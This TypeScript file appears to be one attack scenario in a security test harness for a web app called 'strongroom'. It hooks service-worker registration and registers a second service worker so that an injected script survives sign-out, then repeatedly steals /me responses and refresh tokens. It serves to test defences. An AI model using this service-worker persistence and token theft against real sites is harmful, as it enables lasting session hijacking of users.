import { setTimeout as delay } from "node:timers/promises";
import { attack } from "../attack.js";

/** `register` as the browser has it. */
declare const genuineRegister: ServiceWorkerContainer["register"];

const secondVault = attack({
  name: "a second genuine vault under a scope of its own, which outlives the sign-out",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook() {
    Object.assign(globalThis, { genuineRegister: ServiceWorkerContainer.prototype.register });
    // The app must not notice: without its own worker it would leave the page for a new session, and end the payload.
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
  },
  async payload(it) {
    const send = async (method: string, url: string) => {
      const response = await fetch(url, { method }).catch(() => undefined);
      return (await response?.text().catch(() => "")) ?? "";
    };
    if (location.pathname.startsWith("/v")) {
      for (let tries = 0; tries < 3; tries++) {
        for (const url of [`${it.apiUrl}me`, `${it.ownApiUrl}me`]) it.steal(await send("GET", url));
        it.steal(await send("POST", "/auth/refresh"));
      }
      return;
    }
    const register = async (url: string, scope: string) => {
      const registration = await genuineRegister
        .call(navigator.serviceWorker, it.scriptUrl(url) as string, { scope })
        .catch(() => undefined);
      // One that is refused never becomes active.
      for (let tries = 0; tries < 40 && registration; tries++) {
        if (registration.active && !registration.installing && !registration.waiting) return;
        await it.pause(50);
      }
    };
    // The first vault gives these their copy, as it gives one to every keeper.
    new Worker(it.scriptUrl("/vault-worker.js"));
    if ("SharedWorker" in window) new SharedWorker(it.scriptUrl("/vault-worker.js"));
    const keepers = async () => {
      const session = JSON.parse((await send("GET", "/auth/session")) || "{}");
      return session.worker?.keepers ?? 0;
    };
    for (let tries = 0; tries < 40 && (await keepers()) < 1; tries++) await it.pause(50);
    // Its scope covers the worker script, so `clients.claim()` takes those keepers over.
    await register("/vault-worker.js", "/v");
    // A new version makes the first vault end its streams, and the keepers look for a vault that takes their copy.
    await register("/vault-worker.js?2", "/");
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([secondVault]);
    await stage.openUnconnected();
    await stage.inject();
    // Firefox ends a keeper's stream by itself, some seconds after its request.
    await delay(7_000);
    const attackers = await stage.signOutInAnotherWindow();
    stage.hook([secondVault]);
    await stage.browser.waitFor("a page under the second vault", async () => {
      await stage.browser.goto(`${stage.site.origin}/v`);
      return await stage.browser.evaluate(() => typeof attacker === "object");
    });
    await stage.inject();
    await stage.closeThisTab(attackers);
  },
  gain: async (stage) => stage.requestAsTheUser(),
});

export default secondVault;
